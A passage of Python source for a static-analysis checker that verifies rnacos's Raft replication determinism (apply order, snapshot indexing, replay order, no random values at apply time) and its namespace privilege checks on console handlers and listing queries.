        ck.require(len(it) >= 1 and not bad, 'R07d', 'follower:plain-loop', h.where(), 'the follower batch is not applied in submission order (%s)' % [s.callee for s in bad])
        ap = h.calls(r'StateApplyManager::apply_request_to_state_machine$')
        ck.require(len(ap) == 1 and h.blocks[ap[0].bb]['t'].get('t') is not None and ap[0].bb in cfg.reach_from(h, [h.blocks[ap[0].bb]['t']['t']]),
                   'R07d', 'follower:apply-in-loop', h.where(), 'apply_request_to_state_machine is not called once per batch element')
    d = bodies['do_send_log']
    kinds = set(s.callee.split('::')[-1] for (s, _, _, _) in util.sends(d))
    ck.require(kinds == {'do_send'}, 'R07d', 'do_send_log:do_send-only', d.where(), 'do_send_log uses %s: try_send drops the entry when the bounded mailbox is full, an awaited send lets later entries overtake; only do_send keeps every committed entry in order' % sorted(kinds))
    ck.require(not d.calls(r'tokio::spawn|actix_rt::spawn|actix::spawn'), 'R07d', 'do_send_log:no-spawn', d.where(), 'do_send_log spawns')
    a = fb.get(RA + 'StateApplyManager::apply_request_to_state_machine')
    ck.analysed(a)
    c = a.calls(re.escape(RD + 'do_send_log') + '$')
    ck.require(len(c) >= 1, 'R07d', 'apply_request_to_state_machine:calls-do_send_log', a.where(), 'follower path does not use do_send_log')
    # leader path: results awaited with ?? (errors surface to the client)
    l = bodies['apply_log_to_state_machine']
    for (s, msg, v, _) in util.sends(l):
        if s.callee.endswith('::send'):
            ck.require(util.awaited(l, s), 'R07d', 'leader:awaited:%s' % msg.split('::')[-1], s.where(), 'leader apply does not await %s' % msg)
    # R07e: loader uses load_log, runtime uses the other two
    ck.rule('R07e', 'wiring: LogRecordLoaderInstance::load decodes the record and calls RaftDataHandler::load_log; FileStore::'
                    'apply_entry_to_state_machine -> ApplyRequest; replicate_to_state_machine -> ApplyBatchRequest with every entry')
    ld = [x for x in fb.find(r'LogRecordLoaderInstance as .*LogRecordLoader>::load') if x.calls(re.escape(RD + 'load_log') + '$')]
    ck.require(len(ld) >= 1, 'R07e', 'loader->load_log', '-', 'start-up replay no longer goes through RaftDataHandler::load_log')
    FS = '<rnacos::raft::filestore::core::FileStore as async_raft_ext::RaftStorage<rnacos::raft::store::ClientRequest, rnacos::raft::store::ClientResponse>>::'
    r = ck.main(FS + 'replicate_to_state_machine', 'R07e')
    if r:
        sd = util.sends(r, r'StateApplyRequest$', 'ApplyBatchRequest')
        ck.require(len(sd) >= 1 and all(util.awaited(r, _x[0]) for _x in sd), 'R07e', 'replicate_to_state_machine:ApplyBatchRequest', r.where(), 'batch not sent')
        ps = r.calls(r'Vec::<T, A>::push$')
        ck.require(len(ps) == 1 and ps[0].bb in cfg.reach_from(r, [r.blocks[ps[0].bb]['t']['t']]), 'R07e', 'replicate_to_state_machine:every-entry', r.where(),
                   'not every replicated entry is pushed into the batch')
    e = ck.main(FS + 'apply_entry_to_state_machine', 'R07e')
    if e:
        sd = util.sends(e, r'StateApplyAsyncRequest$', 'ApplyRequest')
        ck.require(len(sd) >= 1 and all(util.awaited(e, _x[0]) for _x in sd), 'R07e', 'apply_entry_to_state_machine:ApplyRequest', e.where(), 'request not sent')


def r07f(ck, fb):
    ck.rule('R07f', 'the index stamped on a snapshot covers everything the snapshot can contain: Handler<StateApplyAsyncRequest> answers with a '
                    'concurrently polled future, and BuildSnapshot captures self.last_applied_log synchronously; the ApplyRequest arm must therefore '
                    'advance last_applied_log synchronously too (in the handler body, before its future exists), never in the future\'s continuation. '
                    'Otherwise a snapshot requested while entry N is in flight is stamped N-1 although the components already hold N, and a restart '
                    'or an installing follower applies N twice (non-idempotent: NextId, Incr, history-adding publishes)')
    hs = [b for b in fb.find(r'StateApplyManager as actix::Handler<rnacos::raft::filestore::raftapply::StateApplyAsyncRequest>>::handle$')]
    if not hs:
        ck.bad('R07f', 'anchor:async-handler', '-', 'Handler<StateApplyAsyncRequest>::handle not found')
        return
    h = hs[0]
    ck.analysed(h)
    ws = [(bb, st) for (o, f, bb, st) in h.field_writes() if f == 'last_applied_log']
    sync_ok = False
    for (bb, st) in ws:
        if any(a[0] == 'variant' and a[2] == 'ApplyRequest' for a in cfg.guard_atoms(h, bb)):
            sync_ok = True
    late = []
    for c in fb.tree(h.name)[1:]:
        for (o, f, bb, st) in c.field_writes():
            if f == 'last_applied_log':
                late.append(c.where(bb))
    ck.require(sync_ok, 'R07f', 'async-handler:advances-last-applied-synchronously', h.where(),
               'the ApplyRequest arm does not advance last_applied_log in the handler body')
    ck.require(not late, 'R07f', 'async-handler:no-late-advance', late[0] if late else h.where(),
               'last_applied_log is advanced in the continuation of the apply future: a BuildSnapshot accepted in between reads the old value as the '
               'snapshot\'s last index')


def r07g(ck, fb):
    ck.rule('R07g', 'what a committed ConfigAdd does is the same on every node: ConfigActor::set_config treats an entry with unchanged md5 as a '
                    'no-op unless the stored value carries the node-local mark `tmp`, which only set_tmp_config raises (on the follower a client '
                    'published through, outside the log). On an EXISTING entry the mark may therefore be raised only when the temporary content '
                    'differs from what the node holds (a test of the stored md5 / content against the new value on every path to `tmp = true`): '
                    'raised on equal content, the next identical publish writes a history record and a new modification time on this node only, '
                    'while the leader and a node that replays the log skip it')
    b = ck.body('rnacos::config::core::ConfigActor::set_tmp_config', 'R07g')
    if not b:
        return
    from rn.facts import pl_proj, pl_fields, op_const
    sc = fb.bodies.get('rnacos::config::core::ConfigActor::set_config')
    reads_tmp = sc is not None and 'tmp' in util.read_fields(sc)
    if not reads_tmp:
        ck.ok('R07g', 'set_config:ignores-tmp', sc.where() if sc else '-', 'set_config does not read the tmp mark: nothing node-local enters the decision')
        return
    stored = Taint(b, place_src=lambda p: pl_fields(p)[-1:] in (['md5'], ['content']))
    newv = Taint(b, local_src=[3])
    n = 0
    for (i, j, st) in b.stmts():
        d = st.get('d')
        if not isinstance(d, dict):
            continue
        fs = [e.get('f') for e in pl_proj(d) if isinstance(e, dict) and 'f' in e]
        if fs[-1:] != ['tmp']:
            continue
        rv = st.get('rv') or {}
        c = op_const(rv.get('op')) if rv.get('k') == 'use' else None
        if c is not None and str(c.get('v', c)).lower().startswith('false'):
            continue
        atoms = cfg.guard_atoms(b, i)
        existing = any(a[0] == 'variant' and a[2] == 'Some' for a in atoms)
        if not existing:
            continue
        n += 1
        ok = False
        for a in atoms:
            sw = a[-1]
            term = b.blocks[sw]['t'] if isinstance(sw, int) and sw < len(b.blocks) else None
            if term is not None and term.get('k') == 'switch' and stored.op_tainted(term['discr']) and newv.op_tainted(term['discr']):
                ok = True
        ck.require(ok, 'R07g', 'set_tmp_config:mark-only-on-different-content', b.where(i),
                   'set_tmp_config raises `tmp` on an existing entry without comparing it with the new value: publish a=1 through follower F twice - '
                   'the second ConfigAdd is a no-op on the leader and on replay (1 history record) but a change on F (2 records, new '
                   'modification time, listeners notified)', 'compared with the stored md5 / content first')
    ck.floor('R07g', 'tmp marks on an existing entry', n, 1)


def r07j(ck, fb, R='R07j'):
    ck.rule(R, 'the start-up replay visits the log files one after the other: RaftLogManager::async_load_record sends RaftLogRequest::Load to a file '
               'actor and awaits the answer before it turns to the next file (the send is awaited inside the loop; no join_all / select / spawn / '
               'FuturesUnordered over the sends). Loaded concurrently, the entries of a later file are applied before those of an earlier one: a '
               'restarted node ends with an older value, a removed key, a history out of order - the leader and the followers do not')
    LM = 'rnacos::raft::filestore::raftlog::RaftLogManager::'
    b = fb.main(LM + 'async_load_record') if fb.has(LM + 'async_load_record') else None
    if b is None:
        ck.body(LM + 'async_load_record', R)
        return
    ck.analysed(b)
    reg = util.region(fb, b)
    sd = [(x, s0) for x in reg for (s0, m0, v0, a0) in util.sends(x, r'raftlog::RaftLogRequest$', 'Load')]
    ck.floor(R, 'Load sends in async_load_record', len(sd), 1)
    for (x, s0) in sd:
        in_loop = util.loop_can_skip(x, s0.bb)[0]
        ck.require(x is b and util.awaited(x, s0) and in_loop, R, 'async_load_record:one-file-at-a-time', s0.where(),
                   'the Load request to a log file is not awaited before the next file is asked (sent from %s, awaited there: %s): the files are '
                   'replayed concurrently and later entries can be applied before earlier ones' % (x.name.split('::')[-1], util.awaited(x, s0)),
                   'awaited inside the loop')
    conc = [s0 for x in reg for s0 in x.calls(r'join_all|try_join_all|FuturesUnordered|FuturesOrdered|select_all|tokio::spawn|actix_rt::spawn|::buffer_unordered')]
    ck.require(not conc, R, 'async_load_record:no-concurrent-combinator', conc[0].where() if conc else b.where(),
               'the replay of the log files goes through %s' % (conc[0].callee if conc else ''))


def r07k(ck, fb, R='R07k'):
    ck.rule(R, 'an index that is kept incrementally on the live paths and rebuilt from scratch on the start-up path must say the same on both: McpManager.'
               'server_key_to_id_map is rebuilt by load_completed as {unique_key -> id} over server_map; on the live path every McpManager method that '
               'replaces the server_map entry of an EXISTING id (a lookup answered Some, then server_map.insert) also takes the old key out of the index '
               '(server_key_to_id_map.remove reachable from that Some edge). Otherwise an UpdateServer that changes the unique key leaves the old key in the '
               'index of the leader and of every follower, while a node that restarts and replays the log does not have it: GetServerByKey(old key) is '
               'answered differently')
    n = 0
    for b in fb.bodies.values():
        if not b.name.startswith('rnacos::mcp::core::McpManager::') or b.parent:
            continue
        ins = util.mut_calls_on_field(b, 'server_map', r'(BTreeMap::<K, V, A>|HashMap::<K, V, S, A>)::insert$')
        if not ins:
            continue
        look = util.mut_calls_on_field(b, 'server_map', r'(BTreeMap::<K, V, A>|HashMap::<K, V, S, A>)::(get|get_mut|remove)$')
        some = util.option_edges(b, look, 'Some')
        rem = {x.bb for x in util.mut_calls_on_field(b, 'server_key_to_id_map', r'::remove$')}
        for (s0, d0, lab0) in some:
            r = cfg.reach_from(b, [d0])
            if not any(x.bb in r for x in ins):
                continue
            n += 1
            ck.analysed(b)
            ck.require(bool(rem & r), R, '%s:old-key-leaves-the-index' % b.name.split('::')[-1], b.where(d0),
                       '%s replaces the entry of an existing server without removing its previous unique key from server_key_to_id_map: the live index keeps '
                       'a key that a rebuilt index (start-up replay, snapshot load) does not have' % b.name.split('::')[-1], 'old key removed')
    ck.floor(R, 'replacements of an existing server_map entry', n, 1)


RANDOM = re.compile(r'(^|::|<)rand::|(^|::)bcrypt::(hash|hash_with_result|hash_with_salt)|Uuid::new_v4|getrandom|thread_rng|(^|::)fastrand::|::random$|RandomState::new')
CLOCK = re.compile(r'SystemTime::now|Instant::now|datetime_utils::now_|chrono::.*::now$|chrono::Local::now|chrono::Utc::now')


def _crate_closure(fb, start, depth):
    """start + its closures + every function of this crate it calls (any file), `depth` calls deep"""
    out, seen = [], set()
    kids = {}
    for x in fb.bodies.values():
        if x.parent:
            kids.setdefault(x.parent, []).append(x)
    stack = [(start, 0)]
    while stack:
        x, d = stack.pop()
        if x.name in seen:
            continue
        seen.add(x.name)
        out.append(x)
        for c in kids.get(x.name, []):
            stack.append((c, d))
        if d >= depth:
            continue
        for s0 in x.sites:
            nm = s0.resolved or s0.callee or ''
            t = fb.bodies.get(nm)
            if t is not None and not t.parent and (nm.startswith('rnacos::') or nm.startswith('<rnacos::')):
                stack.append((t, d + 1))
    return out


def r07m(ck, fb, R='R07m'):
    ck.rule(R, 'the state after applying an entry is a function of the entry: nothing reachable from the handler of a message the apply paths send '
               '(config, table / user, namespace, sequence, MCP, cache, persistent-instance actors; helpers up to 3 calls deep) draws from a random '
               'source (rand, a salted bcrypt hash, uuid v4, a fresh RandomState); clock reads are listed as information, not judged (the cache evaluates '
               'deadlines, the registry keeps node-local stamps). A value made up at apply time differs on the leader, on every follower and on '
               'every replay of the same log - e.g. hashing a legacy plaintext password when the user record is applied stores a different '
               '$2b$10$ hash on each node and after each restart')
    b = fb.main(RD + 'apply_log_to_state_machine')
    pairs = sorted(set((s.gargs[0], msg) for (s, msg, v, a) in util.sends(b)))
    ck.floor(R, 'actor / message pairs the apply path sends', len(pairs), 7)
    n = 0
    seen = set()
    clocks = []
    for (actor, msg) in pairs:
        if actor.endswith('RaftIndexManager'):
            continue
        for h in fb.impls(r'^actix::Handler$', re.escape(actor) + '$', re.escape(msg) + '$', 'handle'):
            reg = _crate_closure(fb, h, 4)
            n += len(reg)
            for x in reg:
                ck.analysed(x)
                for s0 in x.sites:
                    nm = s0.resolved or s0.callee or ''
                    root = fb.root_of(x.name)
                    short = '::'.join(root.split('::')[-2:])
                    if RANDOM.search(nm):
                        k = (short, nm.split('::')[-1])
                        if k in seen:
                            continue
                        seen.add(k)
                        ck.bad(R, 'random-in-apply:%s:%s' % k, s0.where(),
                               '%s, reachable from the handler of %s (a message the raft apply paths send), calls %s: the state it stores is made up at '
                               'apply time and differs between the leader, the followers and every replay of the same log' % (root, msg.split('::')[-1], nm))
                    elif CLOCK.search(nm) and 'datetime_utils' not in x.name:
                        k = (short, 'Local::now' if 'Local::now' in nm else nm.split('::')[-1])
                        if k in seen:
                            continue
                        seen.add(k)
                        clocks.append('%s -> %s' % k)
    ck.floor(R, 'bodies reachable from apply handlers', n, 50)
    if not any(k[0] for k in seen if False):
        pass
    ck.info(R, 'clock reads reachable from apply handlers (listed, not judged: expiry evaluation and node-local stamps): %s' % '; '.join(sorted(clocks)))
    rnd = [o for o in ck.obligations if o[0] == R and str(o[1]).startswith('random-in-apply')]
    if not rnd:
        ck.ok(R, 'apply-handlers-draw-no-random-values', '', '%d bodies, no random source' % n)


def r07n(ck, fb, R='R07n'):
    ck.rule(R, 'the three paths hand the entries to the state actors in the same ORDER relative to what the actors tell each other: handling an entry, '
               'an actor may pass something on to another state actor (the ConfigActor tells the NamespaceActor about a tenant, the TableManager '
               'forwards an old cache record to the DirectCacheManager). The leader and the replay await every entry, so such a message is in the '
               'other mailbox before the next entry is handed over. A follower batch must do the same - apply entry by entry, each awaited - or no '
               'apply handler may send to another state actor. With the whole batch do_send-ed first, entry i+1 overtakes the message entry i caused: '
               'batch [ConfigSet tenant_a/.., Namespace Set tenant_b, Namespace Update tenant_a] -> leader [(tenant_a, "Tenant A"), (tenant_b)], '
               'follower [(tenant_b), (tenant_a, "tenant_a")]: the committed Update is lost there')
    b = fb.main(RD + 'apply_log_to_state_machine')
    pairs = sorted(set((s.gargs[0], msg) for (s, msg, v, a) in util.sends(b) if not s.gargs[0].endswith('RaftIndexManager')))
    actors = set(a for (a, m) in pairs)
    side = []
    for (actor, msg) in pairs:
        for h in fb.impls(r'^actix::Handler$', re.escape(actor) + '$', re.escape(msg) + '$', 'handle'):
            for x in _crate_closure(fb, h, 5):
                for (s0, m0, v0, a0) in util.sends(x):
                    tgt = s0.gargs[0] if s0.gargs else ''
                    if tgt in actors and tgt != actor:
                        side.append((actor.split('::')[-1], tgt.split('::')[-1], (m0 or '').split('::')[-1], v0, s0))
    ck.info(R, 'messages between state actors sent while an entry is applied: %s' % sorted(set('%s -> %s %s::%s' % x[:4] for x in side)))
    hname = '<rnacos::raft::filestore::raftapply::StateApplyManager as actix::Handler<rnacos::raft::filestore::raftapply::StateApplyRequest>>::handle'
    h = ck.body(hname, R)
    if not h:
        return
    reg = util.region(fb, h, 3)
    fan = [x for x in reg if x.calls(re.escape(RD + 'do_send_log') + '$')]
    awaited = [x for x in reg for s0 in x.calls(re.escape(RD + 'apply_log_to_state_machine') + '$') if util.awaited(x, s0)]
    ok = (not side) or (not fan and bool(awaited))
    ck.require(ok, R, 'ApplyBatchRequest:entries-awaited-one-by-one', h.where(),
               'a replicated batch is handed to the state actors with do_send for all entries at once, while handlers of these entries send %d kinds of '
               'messages to other state actors (%s): on a follower a later entry of the batch overtakes the message an earlier entry caused - the '
               'leader and the replay, which await every entry, end in another state' % (len(set(x[:4] for x in side)), sorted(set('%s->%s' % x[:2] for x in side))),
               'entries awaited one by one' if not side == [] else 'no messages between state actors')
