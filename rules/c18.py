"""C18 Namespace-scoped users never see or change data outside their namespaces."""
import re
from rn import cfg, util, routes
from rn.flow import Taint, field_place_src
from rn.tables import check_table
from rn.absint import Ref, SymObj, BV, Adt
from . import c17

PV = 'rnacos::common::model::privilege::'
CHECK_RX = r'privilege::(NamespacePrivilegeGroup|PrivilegeGroup::<T>)::(check_permission|check_option_value_permission)$'
# namespace-scoped data sinks of console handlers (message type, variants | None = any)
SINK_SENDS = {
    'ConfigCmd': {'GET', 'QueryPageInfo', 'QueryHistoryPageInfo', 'QueryInfoByKeys'},
    'ConfigAsyncCmd': None,
    'NamingCmd': {'Query', 'QueryAllInstanceList', 'QueryServiceInfoPage', 'QueryServiceOnly', 'QueryServiceSubscribersPage', 'QueryServiceSubscribersPageV2',
                  'Update', 'Delete', 'UpdateService', 'RemoveService', 'QueryListString', 'QueryServiceSubscribers'},
    'McpManagerReq': None,
}
SINK_CALLS = re.compile(r'ConfigRoute::(set|del)_config$|NamingRoute::(update|delete)_instance$|RaftRequestRoute::request_namespace$')
RAFT_REQ = re.compile(r'RaftRequestRoute::request$')
SCOPED_REQ = {'McpReq', 'NamespaceReq', 'ConfigSet', 'ConfigRemove', 'ConfigFullValue', 'NamingReq'}


def _scoped_raft_request(b):
    return any(st['rv']['variant'] in SCOPED_REQ for (i, j, st) in b.aggregates(r'raft::store::ClientRequest$'))


def run(ck, fb):
    ck.explanation = (
        'Decides necessary conditions of namespace confinement: (a) exhaustive truth tables of the compiled predicates: '
        'PrivilegeGroup::check_permission == at_whitelist && !at_blacklist, at_whitelist/at_blacklist over {is_all, list present, contains}, '
        'check_option_value_permission, NamespacePrivilegeGroup::check_permission maps the default namespace through the same check; '
        '(b) every console data handler (both API versions, from the extracted route table) either guards each of its namespace-scoped '
        'sinks by the true edge of a check_*permission call, or hands the session privilege to the listing query (namespace_privilege '
        'field); (c) the listing code applies that privilege before returning items; (d) the session privilege comes from the user record.')
    ck.undecided = ('Does not decide that the namespace which is checked is the one finally used when a handler renames it on the way '
                    '(value identity beyond one function).')
    r18a(ck, fb)
    r18e(ck, fb)
    r18b(ck, fb)
    r18c(ck, fb)
    r18f(ck, fb)
    r18g(ck, fb)
    r18d(ck, fb)
    r18h(ck, fb)
    r18i(ck, fb)
    r18j(ck, fb)
    r18k(ck, fb)
    r18l(ck, fb)
    r18m(ck, fb)
    r18n(ck, fb)


def find_generic(fb, suffix):
    xs = [b for n, b in fb.bodies.items() if n.endswith(suffix) and 'privilege' in n and not b.parent]
    return xs


def r18a(ck, fb):
    ck.rule('R18a', 'predicate truth tables (exhaustive): check_permission == at_whitelist && !at_blacklist; at_whitelist == whitelist_is_all || '
                    '(whitelist is Some && contains); at_blacklist == blacklist_is_all || (blacklist is Some && contains); '
                    'check_option_value_permission(Some(k)) == check_permission(k), (None) == empty_default')
    cp = find_generic(fb, 'PrivilegeGroup::<T>::check_permission')
    aw = find_generic(fb, 'PrivilegeGroup::<T>::at_whitelist')
    ab = find_generic(fb, 'PrivilegeGroup::<T>::at_blacklist')
    co = find_generic(fb, 'PrivilegeGroup::<T>::check_option_value_permission')
    ck.require(len(cp) == 1 and len(aw) == 1 and len(ab) == 1 and len(co) == 1, 'R18a', 'anchor:predicates', '-', 'privilege predicates not found')
    if not (len(cp) == 1 and len(aw) == 1 and len(ab) == 1 and len(co) == 1):
        return
    key = BV.const(64, 0)
    # at_whitelist / at_blacklist: opaque HashSet::contains result is an atom
    for b, flag, lst in ((aw[0], 'whitelist_is_all', 'whitelist'), (ab[0], 'blacklist_is_all', 'blacklist')):
        def oracle(a, flag=flag, lst=lst):
            if a['self.' + flag]:
                return True
            if a['self.' + lst] == 'Some':
                return a.get(CONTAINS, False)
            return False
        atoms = check_table(ck, fb, 'R18a', b.name.split('::')[-1], b, lambda: [Ref(obj=SymObj('self')), Ref(obj=SymObj('key'))], oracle,
                            all_atoms={'self.' + flag: [False, True], 'self.' + lst: ['None', 'Some'], CONTAINS: [False, True]},
                            call_models=CONTAINS_MODEL)
    # check_permission: calls the two helpers (opaque atoms keyed by callee)
    b = cp[0]
    aw_key = 'call:' + (aw[0].name)
    ab_key = 'call:' + (ab[0].name)

    def m_aw(i, fr, t, args):
        return BV.const(1, int(i.env.atom('AW', 'bool')))

    def m_ab(i, fr, t, args):
        return BV.const(1, int(i.env.atom('AB', 'bool')))
    models = {aw[0].name: m_aw, ab[0].name: m_ab}
    check_table(ck, fb, 'R18a', 'check_permission', b, lambda: [Ref(obj=SymObj('self')), Ref(obj=SymObj('key'))],
                lambda a: a['AW'] and not a['AB'], all_atoms={'AW': [False, True], 'AB': [False, True]}, call_models=models)
    # check_option_value_permission
    b = co[0]
    for opt in ('None', 'Some'):
        for dflt in (False, True):
            def mk(opt=opt, dflt=dflt):
                o = Adt('std::option::Option', opt, [SymObj('k')] if opt == 'Some' else [], ['0'] if opt == 'Some' else [])

                class F:
                    pass
                f = F()
                f.locals = [o]
                f.body = None
                return [Ref(obj=SymObj('self')), Ref(frame=f, place=0), BV.const(1, int(dflt))]
            check_table(ck, fb, 'R18a', 'check_option_value_permission:%s:%s' % (opt, dflt), b, mk,
                        (lambda a, opt=opt, dflt=dflt: (a['AW'] and not a['AB']) if opt == 'Some' else dflt),
                        all_atoms={'AW': [False, True], 'AB': [False, True]}, call_models=models)
    # NamespacePrivilegeGroup::check_permission: default namespace mapped, then the same check
    n = fb.bodies.get(PV + 'NamespacePrivilegeGroup::check_permission')
    if n is None:
        ck.body(PV + 'NamespacePrivilegeGroup::check_permission', 'R18a')
    else:
        ck.analysed(n)
        # decided by interpretation, not by shape: is_default_namespace(key) = DEF, the inner generic check = CP, a helper that looks for the
        # default namespace among the entries of a list = HAS_<list>. Accepted: CP on the non-default path, and on the default path either the
        # inner check (then R18h judges how the lists are matched) or (whitelist_is_all || HAS_whitelist) && !(blacklist_is_all || HAS_blacklist)
        def m_def(i, fr, t, args):
            return BV.const(1, int(i.env.atom('DEF', 'bool')))

        def m_cp(i, fr, t, args):
            return BV.const(1, int(i.env.atom('CP', 'bool')))

        def m_has(i, fr, t, args):
            fs = cfg.origin_fields(fr.body, t['args'][-1]) if t.get('args') else []
            return BV.const(1, int(i.env.atom('HAS_' + (fs[-1] if fs else '?'), 'bool')))
        nmodels = {'rnacos::namespace::is_default_namespace': m_def, cp[0].name: m_cp}
        for nm0 in cfg.PASS_THROUGH + ('<std::sync::Arc<std::string::String> as std::ops::Deref>::deref', '<std::string::String as std::ops::Deref>::deref', '<rnacos::common::constant::DEFAULT_NAMESPACE_ARC_STRING as std::ops::Deref>::deref'):
            nmodels[nm0] = _m_ident
        nmodels['<rnacos::common::constant::DEFAULT_NAMESPACE_ARC_STRING as std::ops::Deref>::deref'] = lambda i, fr, t, args: Ref(obj=SymObj('default_ns'))
        for x in util.region(fb, n, 1):
            if x is not n and not x.parent and x.local_ty(0) == 'bool' and x.name not in nmodels:
                nmodels[x.name] = m_has
        WLA, BLA = 'self.0.whitelist_is_all', 'self.0.blacklist_is_all'
        alla = {'DEF': [False, True], 'CP': [False, True], 'HAS_whitelist': [False, True], 'HAS_blacklist': [False, True], WLA: [False, True], BLA: [False, True]}
        from rn.report import Checker
        verdicts = []
        for nm, orc in (('delegates', lambda a: a['CP']),
                        ('either-name', lambda a: a['CP'] if not a['DEF'] else ((a[WLA] or a['HAS_whitelist']) and not (a[BLA] or a['HAS_blacklist'])))):
            sh = Checker('C18', fb, write=False)
            sh.shadow = True
            sh.rule('R18a', '')
            check_table(sh, fb, 'R18a', 'x', n, lambda: [Ref(obj=SymObj('self')), Ref(obj=SymObj('key'))], orc, all_atoms=alla, call_models=nmodels)
            verdicts.append((nm, not sh.violations))
        ck.require(any(v for _, v in verdicts), 'R18a', 'NamespacePrivilegeGroup::check_permission:table', n.where(),
                   'the namespace privilege check is neither the inner check on both paths nor (whitelist_is_all || default listed) && '
                   '!(blacklist_is_all || default listed) on the default-namespace path: %s' % verdicts, 'form: %s' % [nm for nm, v in verdicts if v])
    no = fb.bodies.get(PV + 'NamespacePrivilegeGroup::check_option_value_permission')
    if no is not None:
        ck.analysed(no)
        ck.require(len(no.calls(r'NamespacePrivilegeGroup::check_permission$')) == 1, 'R18a', 'NamespacePrivilegeGroup::check_option:delegates', no.where(),
                   'check_option_value_permission does not delegate to check_permission')


CONTAINS = 'CONTAINS'


def _m_contains(i, fr, t, args):
    return BV.const(1, int(i.env.atom(CONTAINS, 'bool')))


def _m_ident(i, fr, t, args):
    return args[0]


CONTAINS_MODEL = {
    'std::collections::HashSet::<T, S, A>::contains': _m_contains,
    'std::ops::Deref::deref': _m_ident,
    '<std::sync::Arc<T, A> as std::ops::Deref>::deref': _m_ident,
}


def sink_sites(fb, b, cg):
    """sites in body b that are, or lead (call graph without message edges) to, a namespace-scoped data sink"""
    out = []
    for s in b.sites:
        c = s.callee or ''
        hit = None
        if util.SEND_RX.match(c):
            ga = s.gargs
            msg = (ga[1] if c.startswith('actix::Addr') and len(ga) > 1 else (ga[0] if ga else '')).split('::')[-1]
            if msg in SINK_SENDS:
                a = util.agg_of(b, s.args[1]) if len(s.args) > 1 else None
                v = a['variant'] if a else None
                if SINK_SENDS[msg] is None or v is None or v in SINK_SENDS[msg]:
                    hit = '%s::%s' % (msg, v)
        elif SINK_CALLS.search(c) or (RAFT_REQ.search(c) and _scoped_raft_request(b)):
            hit = c.split('::')[-2] + '::' + c.split('::')[-1]
        else:
            for tgt in cg.targets(s):
                if tgt.startswith(b.name):
                    continue
                sub = _reaches_sink(fb, tgt, cg)
                if sub:
                    hit = 'via %s -> %s' % (tgt.split('::')[-1], sub)
                    break
        if hit:
            out.append((s, hit))
    return out


_rs_cache = {}


def _reaches_sink(fb, name, cg):
    key = (id(fb), name)
    if key in _rs_cache:
        return _rs_cache[key]
    _rs_cache[key] = None
    res = None
    for n in cg.reachable([name]):
        b = fb.bodies.get(n)
        if not b:
            continue
        for s in b.sites:
            c = s.callee or ''
            if util.SEND_RX.match(c):
                ga = s.gargs
                msg = (ga[1] if c.startswith('actix::Addr') and len(ga) > 1 else (ga[0] if ga else '')).split('::')[-1]
                if msg in SINK_SENDS:
                    a = util.agg_of(b, s.args[1]) if len(s.args) > 1 else None
                    v = a['variant'] if a else None
                    if SINK_SENDS[msg] is None or v is None or v in SINK_SENDS[msg]:
                        res = '%s::%s' % (msg, v)
            elif SINK_CALLS.search(c) or (RAFT_REQ.search(c) and _scoped_raft_request(b)):
                res = c.split('::')[-2] + '::' + c.split('::')[-1]
            if res:
                break
        if res:
            break
    _rs_cache[key] = res
    return res


def r18b(ck, fb):
    ck.rule('R18b', 'every console data handler checks before acting: in the handler body each site that is or leads to a namespace-scoped '
                    'sink (config / naming / namespace / MCP reads and writes) is edge-dominated by the true edge of a check_permission / '
                    'check_option_value_permission call, or the handler builds its query parameter with the session\'s namespace_privilege')
    try:
        rows = routes.routes_of(fb, fb.get('rnacos::web_config::console_config'))
    except Exception as e:
        ck.bad('R18b', 'route-dsl', '-', 'console route table cannot be extracted: %s' % e)
        return
    cg = c17.plain_cg(fb)
    handlers = {}
    for r in rows:
        if '/api/' in r.path:
            handlers.setdefault(r.handler, []).append(r)
    n_ok = 0
    n_data = 0
    for h, rs in sorted(handlers.items()):
        if h not in fb.bodies:
            ck.bad('R18b', 'handler-missing:%s' % h, rs[0].site.where(), 'handler %s not in the fact base' % h)
            continue
        m = fb.main(h)
        ck.analysed(m)
        sinks = sink_sites(fb, m, cg)
        if not sinks:
            continue
        n_data += 1
        # privilege passed into the query?
        passes_priv = False
        for x in fb.tree(m.name if not m.parent else m.parent) + [m]:
            for (i, j, st) in x.aggregates():
                if 'namespace_privilege' in st['rv']['fields']:
                    passes_priv = True
            if 'namespace_privilege' in util.assigned_fields(x):
                passes_priv = True
            for s in x.calls(r'::to_param$|::to_clusters_key_param$|to_.*param'):
                tgt = cg.targets(s)
                for t_ in tgt:
                    for y in fb.tree(t_):
                        for (i, j, st) in y.aggregates():
                            if 'namespace_privilege' in st['rv']['fields']:
                                passes_priv = True
        unguarded = []
        for (s, what) in sinks:
            atoms = cfg.guard_atoms(m, s.bb)
            ok = any(a[0] == 'call' and re.search(CHECK_RX, a[1] or '') and a[2] is True for a in atoms)
            if not ok:
                unguarded.append((s, what))
        paths = sorted(set('%s %s' % (r.method or '*', r.path) for r in rs))
        if unguarded and not passes_priv:
            s, what = unguarded[0]
            ck.bad('R18b', '%s' % h, s.where(),
                   'console handler %s (routes %s) reaches %s without a namespace privilege check and without handing the session privilege to the '
                   'query: a namespace-restricted user can read or change data of other namespaces through it' % (h, paths[:3], what))
        else:
            n_ok += 1
            ck.ok('R18b', h, m.where(), 'guarded' if not unguarded else 'session privilege handed to the listing query')
    ck.floor('R18b', 'console data handlers', n_data, 40)
    ck.floor('R18b', 'console data handlers that pass', n_ok, 20)
    ck.extra['console_data_handlers'] = n_data


def r18c(ck, fb):
    ck.rule('R18c', 'listing filters apply the privilege: TenantIndex::query_config_page and the service index paging reach their per-namespace '
                    'sub-queries only under namespace_privilege.check_permission(namespace) == true')
    t = ck.body('rnacos::config::config_index::TenantIndex::query_config_page', 'R18c')
    if t:
        subs = t.calls(r'ConfigIndex::query_config_page$')
        ck.floor('R18c', 'tenant sub-queries', len(subs), 2)
        for s in subs:
            ok = any(a[0] == 'call' and re.search(r'NamespacePrivilegeGroup::check_permission$', a[1] or '') and a[2] is True for a in cfg.guard_atoms(t, s.bb))
            ck.require(ok, 'R18c', 'TenantIndex::query_config_page:guarded', s.where(), 'a tenant\'s configurations are listed without checking the namespace privilege')
    n = 0
    for b in fb.find(r'^rnacos::naming::service_index::NamespaceIndex::query_service_page'):
        if b.parent:
            continue
        ck.analysed(b)
        subs = b.calls(r'ServiceIndex::query_service_page$|query_service_page$')
        for s in subs:
            if s.resolved == b.name:
                continue
            n += 1
            ok = any(a[0] == 'call' and re.search(r'NamespacePrivilegeGroup::check_permission$', a[1] or '') and a[2] is True for a in cfg.guard_atoms(b, s.bb))
            ck.require(ok, 'R18c', 'NamespaceIndex::query_service_page:guarded', s.where(), 'a namespace\'s services are listed without checking the namespace privilege')
